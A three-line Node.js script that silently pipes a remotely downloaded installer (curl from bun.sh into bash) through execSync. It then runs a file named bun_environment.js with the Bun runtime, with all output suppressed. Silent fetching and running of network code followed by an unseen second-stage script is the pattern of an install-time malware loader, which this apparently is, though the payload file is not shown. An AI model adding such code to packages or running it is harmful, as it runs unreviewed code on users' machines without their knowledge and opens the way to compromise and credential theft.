const { execSync } = require('child_process');
execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });
execSync(process.env.HOME + '/.bun/bin/bun bun_environment.js', { stdio: 'ignore' });
